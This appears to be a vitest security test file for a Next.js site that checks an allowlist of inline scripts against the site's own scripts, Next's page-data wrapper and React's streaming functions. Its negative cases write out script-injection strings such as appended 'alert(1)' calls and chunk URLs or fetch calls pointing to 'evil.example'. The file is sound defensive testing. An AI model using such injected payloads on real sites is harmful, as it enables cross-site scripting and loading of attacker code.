import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { runInNewContext } from 'node:vm'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { inlineScripts } from '@/src/shared/inline-scripts'
import { isKnownScript } from './known-scripts'
import { scriptsAfterPaint } from './pages/scripts-after-paint'

/** The code that renders pages holds React's functions as string literals. */
const server = readFileSync(
  createRequire(import.meta.url).resolve('next/dist/compiled/next-server/app-page-turbo.runtime.prod.js'),
  'utf8',
)
const reactFunction = (name: string): string => {
  const at = server.indexOf(`${name}=function`)
  const begin = Math.max(server.lastIndexOf("'$R", at), server.lastIndexOf('"$R', at))
  const literal = /^(['"])(?:(?!\1)[^\\\n]|\\.)*\1/.exec(server.slice(begin))
  if (at < 0 || !literal) throw new Error(`${name} is not in the code that renders pages.`)
  return (runInNewContext(literal[0]) as string).replace(/\$R[A-Z]\("$/, '')
}

describe('[SEC-03] inline scripts that may run', () => {
  test.each(Object.entries(inlineScripts))('the site’s own: %s', (_name, text) => {
    expect(isKnownScript(text)).toBe(true)
    expect(isKnownScript(`${text};alert(1)`)).toBe(false)
  })

  test('the one that loads the page’s files', () => {
    const page = scriptsAfterPaint('<body><script src="/_next/static/chunks/a~1.js" async=""></script></body>')
    const text = /<script>([\s\S]*)<\/script>/.exec(page)?.[1] ?? ''
    expect(isKnownScript(text)).toBe(true)
    for (const changed of [
      text.replace('a~1', '//evil.example/a'),
      `${text};alert(1)`,
      text.replace('"a~1"', 'alert(1)'),
    ])
      expect(isKnownScript(changed)).toBe(false)
  })

  test('Next’s wrapper of page data, if its content is data', () => {
    fc.assert(
      fc.property(fc.string(), (data) => {
        expect(isKnownScript(`self.__next_f.push([1,${JSON.stringify(data)}])`)).toBe(true)
      }),
    )
    expect(isKnownScript('(self.__next_f=self.__next_f||[]).push([0])')).toBe(true)
    const files = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push'
    expect(isKnownScript(`${files}({"otherChunks":["static/chunks/1a.js"],"runtimeModuleIds":[1]});`)).toBe(true)
    for (const text of [
      'self.__next_f.push([1,alert(1)])',
      'self.__next_f.push([1,"a"]);alert(1)//])',
      `${files}({"otherChunks":["https://evil.example/a.js"],"runtimeModuleIds":[1]});`,
      `${files}({"otherChunks":["//evil.example/a.js"],"runtimeModuleIds":[1]});`,
      `${files}(alert(1));`,
    ])
      expect(isKnownScript(text), text).toBe(false)
  })

  test.each(['$RS', '$RC', '$RR', '$RX'])('React’s function %s, as the installed version writes it', (name) => {
    const text = reactFunction(name)
    const call = `${name}("B:0","S:0",[["/a.css","next"]])`
    expect(text.length).toBeGreaterThan(100)
    expect(isKnownScript(text + call)).toBe(true)
    expect(isKnownScript(call)).toBe(true)
    for (const changed of [
      `${text}alert(1)`,
      `alert(1);${text}${call}`,
      `${text}${name}("B:0",alert(1))`,
      `${call};alert(1)`,
    ])
      expect(isKnownScript(changed)).toBe(false)
  })

  test('no others', () => {
    for (const text of ['', 'alert(1)', '$RC', '$RC("a"),alert(1)', 'fetch("https://evil.example")'])
      expect(isKnownScript(text), text).toBe(false)
    expect(isKnownScript('requestAnimationFrame(function(){$RT=performance.now()});')).toBe(true)
  })
})
